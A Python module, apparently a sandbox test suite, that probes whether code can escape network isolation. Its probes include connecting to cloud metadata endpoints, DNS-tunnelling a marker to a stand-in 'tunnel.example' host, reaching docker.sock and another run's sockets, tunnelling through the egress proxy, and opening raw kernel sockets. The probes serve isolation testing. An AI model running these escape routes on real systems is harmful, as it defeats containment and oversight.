"""Attempts to talk to somebody: every word that arrives is known to the host by the attempt's name."""

from __future__ import annotations

import errno
import socket
import struct

from attempts import Places, See, attempt, folder_of_sockets

PATIENCE_S = 2.0


def _word(name: str) -> bytes:
    return f"attempt={name};".encode()


def tell(kind: socket.SocketKind, family: socket.AddressFamily, address: object, name: str) -> See:
    """Send a word that the host knows."""
    with socket.socket(family, kind) as link:
        link.settimeout(PATIENCE_S)
        link.connect(address)
        link.send(_word(name))
    return See(name)


@attempt("network: TCP to the host's loopback")
def _(places: Places) -> object:
    return tell(socket.SOCK_STREAM, socket.AF_INET, ("127.0.0.1", places["port"]), "tcp-loopback")


@attempt("network: TCP to an address of the host's")
def _(places: Places) -> object:
    return tell(socket.SOCK_STREAM, socket.AF_INET, (places["own_address"], places["port"]), "tcp-own")


@attempt("network: TCP to any address, raw")
def _(places: Places) -> object:
    return tell(socket.SOCK_STREAM, socket.AF_INET, (places["far_address"], places["port"]), "tcp-far")


@attempt("network: TCP by name")
def _(places: Places) -> object:
    with socket.create_connection((places["name"], places["port"]), PATIENCE_S) as link:
        link.send(_word("tcp-name"))
    return See("tcp-name")


@attempt("network: TCP over IPv6")
def _(places: Places) -> object:
    return tell(socket.SOCK_STREAM, socket.AF_INET6, ("::1", places["port"]), "tcp-6")


@attempt("network: TCP to an IPv4 address written as IPv6")
def _(places: Places) -> object:
    address = (f"::ffff:{places['own_address']}", places["port"])
    return tell(socket.SOCK_STREAM, socket.AF_INET6, address, "tcp-mapped")


@attempt("network: UDP to the host")
def _(places: Places) -> object:
    return tell(socket.SOCK_DGRAM, socket.AF_INET, (places["own_address"], places["port"]), "udp")


@attempt("network: UDP over IPv6")
def _(places: Places) -> object:
    return tell(socket.SOCK_DGRAM, socket.AF_INET6, ("::1", places["port"]), "udp-6")


@attempt("network: a route out")
def _(places: Places) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.connect((places["far_address"], 9))
        return link.getsockname()[0] != "0.0.0.0"


@attempt("network: the metadata address of clouds")
def _(places: Places) -> object:
    return tell(socket.SOCK_STREAM, socket.AF_INET, ("169.254.169.254", 80), "metadata")


@attempt("network: the metadata address by name")
def _(places: Places) -> object:
    with socket.create_connection(("metadata.google.internal", 80), PATIENCE_S) as link:
        link.send(_word("metadata-name"))
    return See("metadata-name")


@attempt("network: DNS, a secret in a name, by the system's resolver")
def _(places: Places) -> object:
    try:
        socket.getaddrinfo("dns-system.tunnel.example", 443)
    except OSError:
        return See("dns-system")
    return True


@attempt("network: DNS, a secret in a name, straight to a server")
def _(places: Places) -> object:
    labels = b"".join(bytes([len(each)]) + each for each in (b"dns-straight", b"tunnel", b"example"))
    question = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.settimeout(PATIENCE_S)
        link.sendto(question, (places["resolver"], 53))
    return See("dns-straight")


@attempt("network: an abstract socket of the host's")
def _(places: Places) -> object:
    return tell(socket.SOCK_STREAM, socket.AF_UNIX, "\0" + places["abstract"], "abstract")


@attempt("network: a socket file of the host's, as docker.sock")
def _(places: Places) -> object:
    return tell(socket.SOCK_STREAM, socket.AF_UNIX, places["socket"], "path")


@attempt("network: the sockets of another run")
def _(places: Places) -> object:
    failed: OSError = FileNotFoundError(places["other_run"])
    for name in ("control", "data", "egress"):
        try:
            tell(socket.SOCK_STREAM, socket.AF_UNIX, f"{places['other_run']}/{name}.sock", "other-run")
        except OSError as error:
            failed = error
        else:
            return See("other-run")
    raise failed


@attempt("network: the engine's proxy, where no host is granted")
def _(places: Places) -> object:
    """Which takes the connection, to know who was wanted: but is there a way through it?"""
    target = f"127.0.0.1:{places['port']}"
    with socket.socket(socket.AF_UNIX) as link:
        link.settimeout(PATIENCE_S)
        link.connect(str(folder_of_sockets() / "egress.sock"))
        link.send(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        answer = link.recv(1024)
        link.send(_word("proxy"))
    if b" 200 " not in answer.split(b"\r\n")[0]:
        raise PermissionError(errno.EACCES, answer.decode())
    return See("proxy")


@attempt("network: the host's own kind of machine, AF_VSOCK")
def _(places: Places) -> object:
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()
    return True


@attempt("network: raw frames, AF_PACKET")
def _(places: Places) -> object:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()
    return True


@attempt("network: raw ICMP")
def _(places: Places) -> object:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
    return True


@attempt("network: the kernel's tables, AF_NETLINK of another kind")
def _(places: Places) -> object:
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 6).close()
    return True


@attempt("network: the kernel's ciphers, AF_ALG")
def _(places: Places) -> object:
    socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET).close()
    return True


@attempt("network: a protocol that loads a module, SCTP")
def _(places: Places) -> object:
    socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).close()
    return True


@attempt("network: add an address to an interface")
def _(places: Places) -> object:
    import fcntl

    address = struct.pack("<16sHH4s8x", b"lo:9", socket.AF_INET, 0, socket.inet_aton("10.99.99.99"))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        fcntl.ioctl(link, 0x8916, address)
    return True
